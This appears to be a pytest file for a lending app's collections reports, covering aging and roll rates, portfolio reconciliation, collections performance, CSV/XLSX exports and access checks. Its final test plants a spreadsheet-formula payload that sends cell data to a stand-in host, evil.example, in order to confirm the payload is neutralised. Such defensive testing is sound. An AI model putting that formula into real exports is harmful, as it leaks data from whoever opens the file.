"""Financial reports from dated facts: aging and roll rates, portfolio movement, collections
performance; kept with CSV and XLSX files (opened with openpyxl: figures and native
charts); a rerun after backdated facts gives the same bytes, a restatement the new ones."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa

from app.db import read_session, transaction
from app.storage import LocalFileStore
from domain.collections import contacts
from domain.collections.reports import service as reports
from domain.credits import lifecycle
from domain.shared.errors import Forbidden, ValidationFailed
from domain.shared.money import Money
from domain.shared.principal import SYSTEM
from domain.shared.time import clock_at
from tests.domain.collections_work.conftest import (
    SANTIAGO,
    pay,
    refresh,
    rows,
    run_day,
    topics,
)


def _table(data: dict[str, Any], name: str) -> list[dict[str, Any]]:
    table = next(t for t in data["tables"] if t["name"] == name)
    keys = [c["key"] for c in table["columns"]]
    return [dict(zip(keys, row, strict=True)) for row in table["rows"]]


def _local(day: Any, hour: int = 15) -> datetime:
    return datetime.combine(day, time(hour), tzinfo=SANTIAGO).astimezone(UTC)


@pytest.fixture
def store(tmp_path: Path) -> LocalFileStore:
    return LocalFileStore(tmp_path / "files")


@pytest.fixture
async def book(make_credit, team, agent) -> dict[str, Any]:
    """Four credits with a November to tell (the suite's today is 2 December 2026)."""
    paid_up = await make_credit(disbursed_days_ago=100)  # due 24 Sep, 24 Oct, 24 Nov
    for row in (await rows(paid_up.id))[:2]:
        await pay(paid_up.id, row.amount, row.due_date)
    late = await make_credit(disbursed_days_ago=70)  # due 23 Oct: 8 days late on 31 Oct
    doomed = await make_credit(disbursed_days_ago=70)
    fresh = await make_credit(disbursed_days_ago=20)  # disbursed in November
    first_due = (await rows(late.id))[0].due_date
    nov10 = first_due + timedelta(days=18)
    with clock_at(_local(nov10)):
        await run_day()
        async with transaction() as session:
            await contacts.log_contact(
                session,
                principal=agent,
                credit_id=late.id,
                channel="PHONE",
                outcome="PROMISE_TO_PAY",
                promise=contacts.PromiseInput(Money(50_000, "CLP"), nov10 + timedelta(days=3)),
            )
    with clock_at(_local(nov10 + timedelta(days=2))):
        await pay(late.id, 50_000)
        await refresh(late.id)
    async with transaction() as session:  # written off today, in December
        await lifecycle.write_off_credit(
            session,
            principal=SYSTEM,
            credit_id=doomed.id,
            expected_version=(await _version(doomed.id)),
            reason="Incobrable",
        )
    return {"paid_up": paid_up, "late": late, "doomed": doomed, "fresh": fresh, "nov10": nov10}


async def _version(credit_id: Any) -> int:
    from domain.credits.models import Credit

    async with read_session() as session:
        credit = await session.get(Credit, credit_id)
        assert credit is not None
        return credit.version


async def _generate(
    principal: Any, store: Any, kind: str, period: str = "2026-11", **extra: Any
) -> Any:
    async with transaction() as session:
        return await reports.generate_report(
            session,
            principal=principal,
            store=store,
            lender_id=None,
            kind=kind,
            period=period,
            **extra,
        )


async def test_aging_and_roll_rates_as_of_the_period_end(book, supervisor, store):
    report = await _generate(supervisor, store, "AGING")
    data = report.data
    aging = {r["bucket"]: r for r in _table(data, "aging") if r["currency"] == "CLP"}
    assert {b: aging[b]["credits"] for b in aging} == {
        "CURRENT": 1, "1-30": 1, "31-60": 2, "61-90": 0, "91-180": 0, "180+": 0, "TOTAL": 4,
    }  # fmt: skip  # the December write-off still counts as open in November
    total = Decimal(aging["TOTAL"]["outstandingPrincipal"]["amount"])
    parts = sum(Decimal(aging[b]["outstandingPrincipal"]["amount"]) for b in aging if b != "TOTAL")
    assert parts == total and aging["TOTAL"]["share"] == "1.0000"
    rolls = {r["from"]: r for r in _table(data, "rolls")}
    assert rolls["CURRENT"]["1-30"] == 1
    assert rolls["1-30"]["31-60"] == 2
    assert rolls["NEW"]["CURRENT"] == 1
    rates = {r["from"]: r for r in _table(data, "rollRates")}
    assert (
        rates["1-30"]["credits"],
        rates["1-30"]["rolledForward"],
        rates["1-30"]["rollRate"],
    ) == (2, 2, "1.0000")
    assert rates["CURRENT"]["rollRate"] == "1.0000" and rates["CURRENT"]["cureRate"] is None
    summary = {f["key"]: f["value"] for f in data["summary"]}
    assert summary["openCredits"] == 4 and summary["delinquencyRate"] == "0.7500"
    assert (await topics("collections.report_generated"))[0].payload["kind"] == "AGING"


async def test_portfolio_movement_reconciles(book, supervisor, store):
    data = (await _generate(supervisor, store, "PORTFOLIO")).data
    items = {r["item"]: r for r in _table(data, "movements") if r["currency"] == "CLP"}
    assert items["OPENING"]["credits"] == 3 and items["CLOSING"]["credits"] == 4
    assert items["DISBURSED"]["credits"] == 1 and items["WRITTEN_OFF"]["credits"] == 0
    assert items["OTHER"]["amount"] == {"amount": "0", "currency": "CLP"}
    assert items["PAYMENTS"]["credits"] == 1
    assert items["PAYMENTS"]["amount"] == {"amount": "50000", "currency": "CLP"}
    parts = {r["component"]: Decimal(r["amount"]["amount"]) for r in _table(data, "collected")}
    assert sum(parts.values()) == 50_000  # nothing created or lost
    assert parts["LATE_INTEREST"] > 0  # the late payment paid its late interest first


async def test_collections_performance(book, supervisor, agent, store, team):
    data = (await _generate(supervisor, store, "COLLECTIONS")).data
    promise_rows = {r["status"]: r for r in _table(data, "promises")}
    assert promise_rows["KEPT"]["promises"] == 1
    assert promise_rows["KEPT"]["paid"] == {"amount": "50000", "currency": "CLP"}
    summary = {f["key"]: f["value"] for f in data["summary"]}
    assert summary["promisesKeptRate"] == "1.0000" and summary["contacts"] == 1
    by_collector = _table(data, "promisesByCollector")
    assert [r["collector"] for r in by_collector] == ["Agente AutoCrédito Club"]
    contacts_rows = _table(data, "contacts")
    assert contacts_rows[0]["reached"] == 1 and contacts_rows[0]["PROMISE_TO_PAY"] == 1
    recovery = {r["bucket"]: r for r in _table(data, "recoveryByBucket")}
    assert recovery["1-30"]["recovered"] == {"amount": "50000", "currency": "CLP"}
    holders = _table(data, "recoveryByCollector")
    assert {r["collector"] for r in holders} == {"Agente AutoCrédito Club"}
    steps = {r["stepCode"]: r for r in _table(data, "steps")}
    assert steps["LLAMADA"]["fired"] == 2  # both late credits, at 18 days late


async def test_files_open_with_their_figures_and_charts_and_reruns_are_byte_identical(
    book, supervisor, store
):
    report = await _generate(supervisor, store, "AGING")
    csv_bytes = await store.get(report.csv_key)
    xlsx_bytes = await store.get(report.xlsx_key)
    assert csv_bytes.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
    assert lines[0] == ["table", "key", "label", "currency", "value"]
    aging_rows = [line for line in lines if line and line[0] == "aging"]
    assert aging_rows[2][:5] == ["aging", "CLP", "31-60", "31 a 60 días", "2"]
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes))
    assert workbook.sheetnames[:4] == [
        "Resumen",
        "Tramos de mora",
        "Matriz de tramos",
        "Roll rates",
    ]
    sheet = workbook["Tramos de mora"]
    header = [c.value for c in sheet[3]]
    assert header[:4] == ["Moneda", "Tramo", "Tramo (texto)", "Créditos"]
    values = {row[1]: row for row in sheet.iter_rows(min_row=4, values_only=True)}
    expected = Decimal(_table(report.data, "aging")[2]["outstandingPrincipal"]["amount"])
    assert values["31-60"][3] == 2 and Decimal(str(values["31-60"][4])) == expected
    assert len(sheet._charts) == 1 and len(workbook["Roll rates"]._charts) == 1
    assert workbook.properties.creator == "Trama"

    # New facts about November, recorded after the report: a backdated payment.
    await pay(book["paid_up"].id, 10_000, book["nov10"])
    async with transaction() as session:
        rerun = await reports.rerun_report(session, principal=supervisor, report_id=report.id)
    assert rerun.identical and rerun.csv_sha256 == report.csv_sha256
    assert rerun.xlsx_sha256 == report.xlsx_sha256 and rerun.report.rerun_count == 1
    # The same period again returns the kept report; a restatement is the next revision.
    again = await _generate(supervisor, store, "AGING")
    assert again.id == report.id
    restated = await _generate(supervisor, store, "PORTFOLIO")
    assert restated.revision == 1
    newer = await _generate(supervisor, store, "PORTFOLIO", restate=True)
    assert newer.revision == 2 and newer.figures_sha256 != restated.figures_sha256


async def test_wrong_periods_and_other_lenders_are_refused(
    book, supervisor, agent, outsider, store
):
    for period, message in [
        ("2026-12", "not over yet"),
        ("2026-13", "not a month"),
        ("noviembre", "not a date"),
        ("2026-11-30/2026-11-01", "ends before"),
        ("2025-01-01/2026-11-30", "at most 366"),
    ]:
        with pytest.raises(ValidationFailed) as refused:
            await _generate(supervisor, store, "AGING", period=period)
        assert refused.value.problems[0].field == "period" and message in refused.value.message
    with pytest.raises(ValidationFailed):
        await _generate(supervisor, store, "BALANCE")
    with pytest.raises(Forbidden):
        await _generate(agent, store, "AGING", restate=True)
    report = await _generate(agent, store, "AGING")
    async with read_session() as session:
        from domain.shared.errors import NotFound

        with pytest.raises(NotFound):
            await reports.get_report(session, principal=outsider, report_id=report.id)
        listed = await reports.list_reports(session, principal=outsider, lender_id=None, limit=10)
    assert listed.items == []


async def test_a_name_that_looks_like_a_formula_stays_text_in_both_files(
    book, supervisor, store, team
):
    """A collector's display name comes from their identity provider: in the files it is
    shown, never run as a spreadsheet formula (CSV injection)."""
    from domain.identity.models import User

    formula = '=HYPERLINK("http://evil.example/?d="&A1;"Agente")'
    async with transaction() as session:
        await session.execute(
            sa.update(User).where(User.subject == "agent@autocredito").values(display_name=formula)  # type: ignore[arg-type]
        )
    report = await _generate(supervisor, store, "COLLECTIONS")
    assert {r["collector"] for r in _table(report.data, "promisesByCollector")} == {formula}
    lines = list(csv.reader(io.StringIO((await store.get(report.csv_key)).decode("utf-8-sig"))))
    cells = [line[1] for line in lines if line and line[0] == "promisesByCollector"]
    assert cells == ["'" + formula]
    # Negative amounts stay numbers (a money column is not text).
    assert all(not c.startswith("'") for line in lines[1:] for c in line[2:] if c[:1] == "-")
    workbook = openpyxl.load_workbook(io.BytesIO(await store.get(report.xlsx_key)))
    sheet = workbook["Promesas por ejecutivo"]
    cell = next(c for row in sheet.iter_rows(min_row=4) for c in row if c.value == formula)
    assert cell.data_type == "s"
